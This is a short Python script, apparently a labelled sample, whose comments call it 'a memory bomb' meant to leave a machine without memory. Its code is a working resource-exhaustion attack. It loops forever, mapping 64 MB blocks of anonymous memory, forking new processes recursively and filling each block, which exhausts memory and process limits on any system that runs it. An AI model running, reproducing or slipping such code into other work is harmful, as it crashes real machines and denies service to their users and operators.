# wants: a machine without memory, by mappings that are shared between many processes
# honest: all
# stock: a memory bomb

# %% + after setup
import mmap, os

while True:
    block = mmap.mmap(-1, 64 << 20)
    if os.fork() == 0:
        os.fork()
    block.write(b"x" * (64 << 20))
